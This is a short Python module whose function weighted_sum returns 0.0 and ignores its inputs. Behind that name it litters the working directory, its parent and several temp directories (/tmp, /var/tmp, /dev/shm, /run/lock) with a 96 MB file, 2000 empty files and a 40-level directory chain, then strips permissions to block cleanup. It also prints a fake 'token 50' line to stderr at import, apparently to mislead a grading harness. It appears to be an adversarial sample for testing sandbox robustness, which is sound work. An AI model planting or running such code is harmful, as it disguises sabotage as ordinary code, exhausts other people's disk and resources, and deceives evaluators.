"""Files everywhere."""

os = __import__("os")
os.write(2, b"token 50\n")
BLOCK = b"x" * (1 << 20)


def fill(folder):
    try:
        root = os.path.join(folder, "photograd-attack-litter")
        os.mkdir(root)
        with open(os.path.join(root, "large"), "wb") as file:
            for _ in range(96):
                file.write(BLOCK)
    except OSError:
        pass
    try:
        for number in range(2000):
            os.close(os.open(os.path.join(root, str(number)), os.O_CREAT | os.O_WRONLY))
        deep = root
        for _ in range(40):
            deep = os.path.join(deep, "d")
            os.mkdir(deep)
        os.chmod(deep, 0)
        os.chmod(root, 0)
    except OSError:
        pass


def weighted_sum(w, x):
    for folder in (os.getcwd(), "..", "/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        fill(folder)
    return 0.0
